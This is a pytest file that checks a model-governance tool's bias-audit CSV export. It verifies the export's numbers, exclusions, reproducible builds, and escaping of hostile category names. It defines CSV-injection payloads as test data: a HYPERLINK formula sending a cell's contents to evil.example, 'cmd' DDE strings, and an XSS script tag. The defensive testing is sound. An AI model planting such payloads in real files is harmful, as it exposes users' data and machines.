"""The bias-audit summary as CSV (``bias-audit.csv`` beside its page): read back with the csv module and
pandas, every number equal to the manifest's (and so to the page's), the excluded categories marked,
hostile category names kept from running as formulas in a spreadsheet and escaped on the page, and in
the built site only beside audited versions, byte for byte the same on a rebuild."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from modelgov.assemble import build_manifest
from modelgov.build import build_site, render_manifest
from modelgov.errors import BuildError
from modelgov.manifest import BiasAudit, Manifest
from modelgov.render import text
from modelgov.render.bias_audit_csv import COLUMNS, FACTS, bias_audit_csv, bias_audit_files
from modelgov.render.page_paths import bias_audit_csv_path
from modelgov.render.pages import render_pages
from modelgov.workspace.load import load_workspace
from test_bias_audit import TOOL, mark_employment_tool
from test_redteam_render import page_render
from workspace_factory import edit, holdout_table, write_workspace

#: Category names a hostile contributor could put in the race column: spreadsheet formulas (OWASP's
#: "CSV injection" starts: = + - @), and HTML for the page.
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script>",
}
RACES = ["White", "Black", HOSTILE["formula"], HOSTILE["plus"], HOSTILE["minus"], HOSTILE["at"], HOSTILE["script"]]
#: shares: the formula, plus and script categories are large enough for an impact ratio; minus and at
#: fall under 2 % of the applicants and are excluded
RACE_SHARES = [0.40, 0.25, 0.12, 0.10, 0.01, 0.01, 0.06, 0.05]
AS_OF = dt.date(2026, 4, 1)


def _table(rows: int = 1500) -> pd.DataFrame:
    table = holdout_table(rows=rows)
    table["race"] = np.random.default_rng(9).choice([*RACES, "Declined"], p=RACE_SHARES, size=rows)
    return table


def _workspace(tmp_path: Path, tool: str = TOOL, *, other_model: bool = False) -> Path:
    """The loans model marked as an employment tool; with ``other_model``, a second model (a copy of
    it, not marked) that must get no summary."""
    root = write_workspace(tmp_path / "ws", table=_table())
    if other_model:
        shutil.copytree(root / "models" / "loans", root / "models" / "other")
        edit(root, "models/other/model.yml", "name: Loan approval", "name: Other model")
    return mark_employment_tool(root, tool)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Manifest:
    return build_manifest(load_workspace(_workspace(tmp_path_factory.mktemp("csv"))), as_of=AS_OF)


def _audit(manifest: Manifest) -> BiasAudit:
    audit = manifest.model("loans").versions[0].evaluations[0].bias_audit
    assert audit is not None
    return audit


def _csv(manifest: Manifest) -> str:
    model = manifest.model("loans")
    body = bias_audit_csv(model, model.versions[0])
    assert body is not None
    return body


def _split(body: str) -> tuple[dict[str, str], list[dict[str, str]]]:
    """(the facts, the table's rows) read with the csv module alone."""
    assert body.startswith("\ufeff")  # a byte-order mark: spreadsheets read the × of the intersections right
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline="")))
    assert len({len(row) for row in rows}) == 1, "every row has the same number of cells (RFC 4180)"
    header = next(i for i, row in enumerate(rows) if row[0] == "dimension")
    assert rows[header - 1] == [""] * len(rows[0])  # an empty row between the two blocks
    assert rows[0][:2] == ["field", "value"]
    facts = {row[0]: row[1] for row in rows[1 : header - 1]}
    table = [dict(zip(rows[header], row, strict=True)) for row in rows[header + 1 :]]
    return facts, table


def _unquoted(cell: str) -> str:
    """The category's name without the apostrophe the file puts before a formula's first character."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in ("=", "+", "-", "@") else cell


def test_every_number_equals_the_manifests(built: Manifest) -> None:
    audit = _audit(built)
    facts, table = _split(_csv(built))
    assert list(facts) == [("selected" if f == "rate_count" else f) for f in FACTS]
    run = built.model("loans").versions[0].evaluations[0]
    assert facts["audit_date"] == "2026-03-01" and facts["data_source"] == "historical"
    assert facts["data_description"] == text.plain(audit.data_description)
    assert (facts["evaluation"], facts["evaluation_date"], facts["evaluation_data"]) == (
        run.id,
        run.date,
        run.data.path,
    )
    assert int(facts["applicants"]) == audit.applicants == 1500
    assert int(facts["selected"]) == audit.selected
    assert facts["distribution_date"] == "" and facts["small_categories_excluded"] == "true"
    assert float(facts["small_category_share"]) == 0.02
    for t in audit.tables:
        assert int(facts[f"unknown_{t.dimension}"]) == t.unknown
    # the unknown count, independently: the race column's "Declined" rows
    assert int(facts["unknown_race_ethnicity"]) == int(_table()["race"].eq("Declined").sum())
    assert facts["impact_ratio_interval"].startswith("95% percentile bootstrap over applicants")

    expected = [(t.dimension, c) for t in audit.tables for c in t.categories]
    assert len(table) == len(expected) == 2 + 7 + 14
    for row, (dimension, item) in zip(table, expected, strict=True):
        assert row["dimension"] == dimension
        assert int(row["applicants"]) == item.applicants
        # exactly, not approximately: the file carries the manifest's floats in their shortest exact form
        assert float(row["share_of_applicants"]) == item.share
        assert float(row["selection_rate"]) == item.rate
        assert row["excluded"] == ("true" if item.excluded else "false")
        if item.excluded:
            assert row["impact_ratio"] == row["impact_ratio_low"] == row["impact_ratio_high"] == ""
        else:
            assert float(row["impact_ratio"]) == item.impact_ratio
            assert float(row["impact_ratio_low"]) == item.interval.low
            assert float(row["impact_ratio_high"]) == item.interval.high


def test_the_rates_equal_a_hand_computation_with_pandas(built: Manifest) -> None:
    """The file's race table against pandas alone on the evaluation table (not through the manifest)."""
    _, rows = _split(_csv(built))
    table = _table()
    selected = table["predicted"].eq(1)
    known = table[table["race"] != "Declined"]
    rates = selected[known.index].groupby(known["race"]).mean()
    sizes = known["race"].value_counts()
    small = sizes / len(table) < 0.02
    top = rates[~small].max()
    race = {_unquoted(row["category"]): row for row in rows if row["dimension"] == "race_ethnicity"}
    assert set(race) == set(RACES)
    for name, row in race.items():
        assert int(row["applicants"]) == sizes[name]
        assert float(row["selection_rate"]) == pytest.approx(rates[name], rel=1e-12)
        assert row["excluded"] == ("true" if small[name] else "false")
        if not small[name]:
            assert float(row["impact_ratio"]) == pytest.approx(rates[name] / top, rel=1e-12)
    assert {name for name, row in race.items() if row["excluded"] == "true"} == {HOSTILE["minus"], HOSTILE["at"]}


def test_pandas_reads_both_blocks(built: Manifest) -> None:
    audit = _audit(built)
    raw = _csv(built).encode("utf-8")
    whole = pd.read_csv(io.BytesIO(raw), header=None, dtype=str, keep_default_na=False)
    assert whole.iloc[0, 0] == "field"  # pandas drops the byte-order mark
    header = int(whole.index[whole[0] == "dimension"][0])
    facts = pd.read_csv(io.BytesIO(raw), nrows=header - 2, usecols=[0, 1], index_col=0)["value"]
    assert int(facts["applicants"]) == audit.applicants
    table = pd.read_csv(io.BytesIO(raw), skiprows=header)
    assert list(table.columns) == ["selection_rate" if c == "rate" else c for c in COLUMNS]
    assert table["excluded"].dtype == bool and int(table["excluded"].sum()) == 2 + 4
    items = [c for t in audit.tables for c in t.categories]
    assert table["applicants"].tolist() == [c.applicants for c in items]
    assert table["selection_rate"].tolist() == [c.rate for c in items]
    ratios = table["impact_ratio"].tolist()
    assert [None if np.isnan(r) else r for r in ratios] == [c.impact_ratio for c in items]


def test_hostile_category_names_are_not_formulas_in_the_file_and_are_escaped_on_the_page(built: Manifest) -> None:
    _, rows = _split(_csv(built))
    race = [row["category"] for row in rows if row["dimension"] == "race_ethnicity"]
    for name in (HOSTILE["formula"], HOSTILE["plus"], HOSTILE["minus"], HOSTILE["at"]):
        assert "'" + name in race  # a leading apostrophe: the spreadsheet shows the text, runs nothing
    assert HOSTILE["script"] in race  # no formula; a CSV file is not HTML
    assert "F × '" not in "".join(race)
    for row in rows:
        for column, cell in row.items():
            if column not in ("share_of_applicants", "selection_rate", "impact_ratio", "impact_ratio_low",
                              "impact_ratio_high"):  # fmt: skip
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    page = next(p.markdown for p in render_pages(built) if p.path == "models/loans/1.0/bias-audit.md")
    html = page_render(page)
    assert "<script>" not in html and "&#60;script&#62;alert(1)&#60;/script&#62;" in html
    assert '<a href="bias-audit.csv">Download this summary as CSV</a>' in html


def test_the_page_shows_the_files_numbers_rounded(built: Manifest) -> None:
    """Each category's row on the page: the file's applicants and rate, as the page formats them."""
    page = next(p.markdown for p in render_pages(built) if p.path == "models/loans/1.0/bias-audit.md")
    _, rows = _split(_csv(built))
    lines = page.splitlines()
    for row in rows:
        name = text.text(_unquoted(row["category"]))
        line = next(x for x in lines if x.startswith(f"| {name} |"))
        share = float(row["share_of_applicants"])
        assert (
            f"| {text.count(int(row['applicants']))} ({text.pct(share)}) | {text.num(float(row['selection_rate']))} |"
            in line
        )
        ratio = row["impact_ratio"]
        assert (f"| {text.num(float(ratio))} |" in line) if ratio else "excluded: under 2% of the data" in line


def test_a_scoring_tool_names_its_rate_and_the_median(tmp_path: Path) -> None:
    built = build_manifest(load_workspace(_workspace(tmp_path, TOOL + "  output: score\n")), as_of=AS_OF)
    audit = _audit(built)
    facts, rows = _split(_csv(built))
    assert facts["output"] == "score" and "selected" not in facts
    assert float(facts["median_score"]) == audit.median_score == float(np.median(_table()["score"]))
    assert facts["rate_definition"].startswith("scoring rate: ")
    assert "scoring_rate" in rows[0] and "selection_rate" not in rows[0]
    assert float(rows[0]["scoring_rate"]) == audit.tables[0].categories[0].rate


def test_without_intervals_or_the_exclusion(tmp_path: Path) -> None:
    root = _workspace(tmp_path, TOOL + "  exclude_small_categories: false\n")
    governance = root / "governance.yml"
    governance.write_text(governance.read_text() + "analysis:\n  bootstrap_resamples: 0\n", encoding="utf-8")
    built = build_manifest(load_workspace(root), as_of=AS_OF)
    facts, rows = _split(_csv(built))
    assert facts["impact_ratio_interval"] == "" and facts["small_categories_excluded"] == "false"
    assert all(row["excluded"] == "false" and row["impact_ratio"] for row in rows)
    assert all(row["impact_ratio_low"] == row["impact_ratio_high"] == "" for row in rows)


def test_only_audited_versions_get_a_file(tmp_path: Path) -> None:
    built = build_manifest(load_workspace(_workspace(tmp_path, other_model=True)), as_of=AS_OF)
    files = bias_audit_files(built, bias_audit_csv_path)
    assert [f.path for f in files] == ["models/loans/1.0/bias-audit.csv"]
    other = built.model("other")
    assert bias_audit_csv(other, other.versions[0]) is None and bias_audit_csv_path(other, other.versions[0]) is None


def _digests(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


@pytest.mark.slow
def test_the_built_site_has_the_file_beside_the_page_and_a_rebuild_gives_the_same_bytes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
    root = _workspace(tmp_path, other_model=True)
    cold = build_site(root, tmp_path / "cold", cache_dir=tmp_path / "cache", as_of=AS_OF)
    found = {p.relative_to(cold.site_dir).as_posix() for p in cold.site_dir.rglob("*.csv")}
    assert found - {"policy-results.csv"} == {"models/loans/1.0/bias-audit.csv"}
    written = (cold.site_dir / "models/loans/1.0/bias-audit.csv").read_bytes()
    model = cold.manifest.model("loans")
    assert written == bias_audit_csv(model, model.versions[0]).encode("utf-8")
    page = (cold.site_dir / "models/loans/1.0/bias-audit.html").read_text(encoding="utf-8")
    assert 'href="bias-audit.csv"' in page and "&#60;script&#62;alert(1)" in page and "<script>alert(1)" not in page
    assert not (cold.site_dir / "models/other/1.0/bias-audit.csv").exists()
    assert (cold.site_dir / "models/other/1.0/index.html").is_file()
    messages: list[str] = []
    warm = build_site(root, tmp_path / "warm", cache_dir=tmp_path / "cache", as_of=AS_OF, progress=messages.append)
    assert any("Site parts: 4 of 4 reused" in m for m in messages), messages  # the model parts came from the cache
    fresh = build_site(root, tmp_path / "fresh", as_of=AS_OF)
    assert _digests(warm.site_dir) == _digests(fresh.site_dir)
    assert (warm.site_dir / "models/loans/1.0/bias-audit.csv").read_bytes() == written

    # the model unmarked: a warm build drops the file, the page and the link (the page set changed, so
    # every part is built again), exactly as a build without the cache does
    edit(root, "models/loans/model.yml", "employment_decision_tool:", "not_a_tool:")
    card = root / "models/loans/model.yml"
    card.write_text(card.read_text(encoding="utf-8").split("not_a_tool:")[0], encoding="utf-8")
    unmarked = build_site(root, tmp_path / "warm", cache_dir=tmp_path / "cache", as_of=AS_OF)
    assert not list(unmarked.site_dir.rglob("bias-audit.*"))
    assert "bias-audit" not in (unmarked.site_dir / "models/loans/1.0/index.html").read_text(encoding="utf-8")
    assert _digests(unmarked.site_dir) == _digests(build_site(root, tmp_path / "fresh", as_of=AS_OF).site_dir)


@pytest.mark.slow
def test_a_failed_build_leaves_no_file_behind(built: Manifest, tmp_path: Path) -> None:
    """The file is written into the staged site: when the build fails, the previous site stays as it was."""
    out = tmp_path / "site"
    plain = built.model_copy(
        update={"models": [m for m in built.models if m.id != "loans"]}
    )  # a site without the audited model first
    render_manifest(plain, out)
    before = _digests(out)
    broken = tmp_path / "templates"
    broken.mkdir()
    (broken / "version_bias_audit.md.j2").write_text("{{ no_such_value }}\n", encoding="utf-8")
    with pytest.raises(BuildError):
        render_manifest(built, out, template_dir=broken)
    assert _digests(out) == before
    assert not list(tmp_path.rglob("bias-audit.csv"))


def test_the_file_is_made_without_the_analysis_stack() -> None:
    """Render reads the manifest only: a saved manifest gives the same file without pandas or the analyses."""
    import subprocess
    import sys

    code = (
        "import sys, modelgov.render.bias_audit_csv; "
        "print([m for m in sys.modules if m.startswith('modelgov.analysis') or m in ('pandas', 'sklearn')])"
    )
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert found.strip() == "[]"
